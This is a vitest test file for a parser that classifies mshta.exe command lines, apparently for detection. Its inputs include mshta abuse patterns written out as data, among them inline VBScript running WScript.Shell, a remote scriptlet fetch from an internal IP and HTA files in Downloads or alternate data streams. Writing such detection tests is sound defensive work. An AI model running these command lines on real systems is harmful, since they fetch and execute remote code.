import { describe, expect, test } from 'vitest'
import { readToolUse } from './read-tool-use'

describe('mshta', () => {
  test.each([
    [
      'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")',
      'mshta vbscript:execute("createobject(""wscript.shell"").run ""calc"":close")',
      'mshta|inline-script|-|-',
      ['inline-script'],
      null,
    ],
    [
      'mshta.exe javascript:a=GetObject("script:http://10.0.0.9/a.sct").Exec();close();',
      'mshta javascript:a=getobject("script:http://<ip>/*.sct").exec();close();',
      'mshta|inline-script|-|-',
      ['scriptlet', 'inline-script', 'remote-url'],
      null,
    ],
    [
      'mshta "about:<hta:application><script>alert(1)</script>"',
      'mshta "about:<hta:application><script>alert(<n>)</script>"',
      'mshta|inline-script|-|-',
      ['inline-script'],
      null,
    ],
    [
      '"C:\\Windows\\System32\\mshta.exe" "C:\\Users\\ann\\Downloads\\form 7.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}',
      'mshta <downloads>\\*.hta {<guid>}',
      'mshta|file|downloads|hta',
      ['downloads'],
      'form 7.hta',
    ],
    [
      'mshta http://example.com/a.hta',
      'mshta http://example.com/*.hta',
      'mshta|url|url|hta',
      ['remote-url'],
      'a.hta',
    ],
    [
      'mshta.exe https:\\\\example.com\\report.pdf',
      'mshta https://example.com/*.pdf',
      'mshta|url|url|pdf',
      ['remote-url'],
      'report.pdf',
    ],
    [
      'mshta C:\\Windows\\System32\\oobe\\setup.hta',
      'mshta <system>\\oobe\\setup.hta',
      'mshta|file|system|hta',
      [],
      'setup.hta',
    ],
    [
      'mshta \\\\srv\\share\\a.hta',
      'mshta <unc>\\srv\\share\\a.hta',
      'mshta|file|unc|hta',
      ['intranet-share'],
      'a.hta',
    ],
    ['mshta.exe -Embedding', 'mshta /embedding', 'mshta|embedding|-|-', ['com-object'], null],
    [
      'mshta C:\\Users\\ann\\a.txt:run.hta',
      'mshta <user-profile>\\a.txt:run.hta',
      'mshta|file|alternate-data-stream|hta',
      ['alternate-data-stream'],
      'a.txt:run.hta',
    ],
    ['mshta', 'mshta', 'mshta|none|-|-', [], null],
    [
      'mshta C:\\ProgramData\\a.png',
      'mshta <program-data-root>\\a.png',
      'mshta|file|program-data-root|png',
      ['program-data-root', 'odd-extension'],
      'a.png',
    ],
  ])('%s', (line, pattern, shape, facts, hosted) => {
    expect(readToolUse('mshta.exe', line, 'C:\\Windows\\System32\\mshta.exe')).toMatchObject({
      pattern,
      shape,
      facts,
      hosted,
    })
  })
})
